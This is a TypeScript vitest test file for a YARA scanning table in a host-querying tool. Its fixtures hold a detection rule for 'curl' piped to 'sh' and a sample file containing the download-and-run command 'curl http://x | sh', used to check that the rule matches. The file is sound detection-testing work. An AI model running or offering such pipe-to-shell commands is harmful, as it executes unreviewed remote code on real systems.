import { expect, test } from "vitest";
import { yara } from "../../../../src/tables/yara/yara.ts";
import { scanTable } from "../../../helpers/collect-table.ts";
import { temporaryHost } from "../../../helpers/host.ts";

const rule = 'rule dropper : linux tmp { strings: $a = "curl" $b = "| sh" condition: all of them }';
const path = { column: "path", op: "LIKE" as const, value: "/tmp/%" };
const host = () =>
  temporaryHost({
    "/tmp/a": "curl http://x | sh",
    "/tmp/b": "curl alone",
    "/etc/site.yar": rule,
  });

test("files are matched with the rules of the statement", () => {
  const sigrule = { column: "sigrule", op: "=" as const, value: rule };
  expect(scanTable(yara, host(), [path, sigrule])).toEqual({
    rows: [
      {
        path: "/tmp/a",
        sigrule: rule,
        matches: "dropper",
        count: 1,
        strings: "$a:0,$b:e",
        tags: "linux,tmp",
      },
      { path: "/tmp/b", sigrule: rule, matches: "", count: 0, strings: "", tags: "" },
    ],
    gaps: [],
  });
});

test("rules can be in a file of the host", () => {
  const sigfile = { column: "sigfile", op: "=" as const, value: "/etc/site.yar" };
  const { rows } = scanTable(yara, host(), [path, sigfile]);
  expect(rows.map(({ matches }) => matches)).toEqual(["dropper", ""]);
});

test("wrong rules and none are gaps", () => {
  const broken = { column: "sigrule", op: "=" as const, value: "rule x {" };
  expect(scanTable(yara, host(), [path, broken])).toMatchObject({
    rows: [],
    gaps: [{ reason: "error", detail: expect.stringContaining("could not be compiled") }],
  });
  expect(scanTable(yara, host(), [path]).gaps).toMatchObject([{ reason: "error" }]);
});
